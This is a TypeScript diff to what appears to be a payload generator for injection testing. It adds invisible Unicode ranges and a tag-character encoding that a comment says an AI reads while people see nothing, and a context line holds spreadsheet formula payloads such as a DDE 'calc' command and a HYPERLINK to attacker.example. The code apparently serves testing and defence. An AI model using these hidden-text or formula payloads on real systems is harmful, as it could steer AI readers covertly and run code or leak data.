@@ -16,6 +16,9 @@ const orders = [
 
 const order: Family = (random) => pick(random, orders);
 
+const tagOf = (letter: string): string =>
+  String.fromCodePoint(0xe0000 + (letter.codePointAt(0)! & 0x7f));
+
 /** Characters without a shape of their own, as code points. */
 const hiddenRanges = [
   [0x200b, 0x200f],
@@ -28,16 +31,33 @@ const hiddenRanges = [
   [0x0000, 0x0008],
   [0x0080, 0x009f],
   [0x180b, 0x180d],
+  [0x00ad, 0x00ad],
+  [0x061c, 0x061c],
+  [0x115f, 0x1160],
+  [0x3164, 0x3164],
+  [0xffa0, 0xffa0],
+  [0xfff9, 0xfffc],
+  [0xe000, 0xf8ff],
+  [0xf0000, 0xf00ff],
+  [0xe0000, 0xe001f],
 ] as const;
 
-const hiddenText: Family = (random) => {
+/** Draws characters nobody sees, all of one range. */
+const hiddenPoints = (random: () => number): (() => string) => {
   const [first, last] = pick(random, hiddenRanges);
-  const point = (): number => first + Math.floor(random() * (last - first + 1));
-  return Array.from('§ carries §', (letter) => letter + String.fromCodePoint(point())).join('');
+  return () => String.fromCodePoint(first + Math.floor(random() * (last - first + 1)));
 };
 
-const tagOf = (letter: string): string =>
-  String.fromCodePoint(0xe0000 + (letter.codePointAt(0)! & 0x7f));
+const hiddenText: Family = (random) => {
+  const next = hiddenPoints(random);
+  return Array.from('§ carries §', (letter) => letter + next()).join('');
+};
+
+/** Up to 24 of them in a row, or a whole order in tag characters. */
+const hiddenRun: Family = (random) =>
+  random() < 0.25
+    ? Array.from(order(random), tagOf).join('')
+    : Array.from({ length: 1 + Math.floor(random() * 24) }, hiddenPoints(random)).join('');
 
 /** Letters spelled with tag characters: an AI reads them, a person sees nothing. */
 const tagged: Family = (random) => `§ tea ${Array.from(order(random), tagOf).join('')} §`;
@@ -107,12 +127,22 @@ export const families: Readonly<Record<string, Family>> = {
     `${pick(random, ['=', '+', '-', '@', '\u200b=', '＝', '\ufeff='])}${pick(random, ["cmd|' /C calc'!A0", 'HYPERLINK("https://attacker.example/?§","x")', '1+1', 'SUM(A1:A9)'])}§`,
 };
 
+export type Injection = {
+  readonly family: string;
+  /** Occurs in every text of this injection, and nowhere else. */
+  readonly word: string;
+  readonly text: string;
+  /** Characters nobody sees, to stand in the middle of a plain sentence. */
+  readonly hidden: string;
+};
+
 /** So many payloads, each family in turn, each with a word of its own. */
-export const injections = (count: number, random: () => number) => {
+export const injections = (count: number, random: () => number): readonly Injection[] => {
   const names = Object.keys(families);
   return Array.from({ length: count }, (_, index) => {
     const family = names[index % names.length]!;
     const word = `zq${String(index).padStart(4, '0')}`;
-    return { family, word, text: families[family]!(random).replaceAll('§', word) };
+    const text = families[family]!(random).replaceAll('§', word);
+    return { family, word, text, hidden: hiddenRun(random) };
   });
 };
